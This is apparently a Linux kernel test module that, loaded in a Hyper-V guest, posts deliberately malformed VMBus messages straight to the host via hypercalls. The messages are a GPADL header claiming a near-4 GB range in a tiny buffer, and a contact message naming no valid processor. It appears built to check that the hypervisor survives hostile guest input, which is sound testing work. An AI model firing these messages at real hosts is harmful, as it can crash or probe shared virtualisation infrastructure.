// SPDX-License-Identifier: GPL-2.0
/*
 * In a guest: post VMBus messages that no kernel posts, past the guest's own driver. The VMM has
 * to live; the guest's VMBus need not.
 *
 *	insmod hostile.ko what=gpadl | contact
 *
 * Loading it does that, says so, and fails: there is nothing to stay for.
 */
#include <linux/module.h>
#include <linux/slab.h>
#include <asm/mshyperv.h>

#define CONNECTION	1
#define MESSAGE_VMBUS	1
#define PAYLOAD_BYTES	240

enum { GPADL_HEADER = 8, INITIATE_CONTACT = 14 };

struct hostile_input {
	u32 connection;
	u32 reserved;
	u32 type;
	u32 bytes;
	u32 payload[PAYLOAD_BYTES / sizeof(u32)];
};

static char *what = "gpadl";
module_param(what, charp, 0);

static struct hostile_input *input;	/* in one page, as hypercalls want it */

static u64 status;		/* of all hypercalls: 0, or what went wrong */

static void post(u32 bytes)
{
	input->connection = CONNECTION;
	input->type = MESSAGE_VMBUS;
	input->bytes = bytes;
	status |= hv_do_hypercall(HVCALL_POST_MESSAGE, input, NULL) & HV_HYPERCALL_RESULT_MASK;
}

/* A range that is as long as it says, in a buffer that is shorter than its own header */
static void post_gpadl(u32 handle)
{
	memset(input->payload, 0, sizeof(input->payload));
	input->payload[0] = GPADL_HEADER;
	input->payload[2] = 2000;		/* no channel: the VMM's own to look at */
	input->payload[3] = handle;
	input->payload[4] = 1 << 16;		/* no bytes of ranges, and one range */
	input->payload[5] = 0xfffff000;		/* its length in bytes */
	post(36);
}

/* The processor that messages are to go to is none */
static void post_contact(void)
{
	memset(input->payload, 0, sizeof(input->payload));
	input->payload[0] = INITIATE_CONTACT;
	input->payload[2] = 4 << 16;		/* version 4.0 */
	input->payload[3] = ~0u;
	post(40);
}

static int __init hostile_init(void)
{
	u32 i;

	input = (struct hostile_input *)get_zeroed_page(GFP_KERNEL);
	if (!input)
		return -ENOMEM;
	if (!strcmp(what, "gpadl"))
		for (i = 0; i < 4; i++)
			post_gpadl(0x7000000 + i);
	else
		post_contact();
	free_page((unsigned long)input);
	pr_info("hostile: %s posted, status %llu\n", what, status);
	return -ENODEV;
}
module_init(hostile_init);

MODULE_DESCRIPTION("VMBus messages that no kernel posts");
MODULE_LICENSE("GPL");
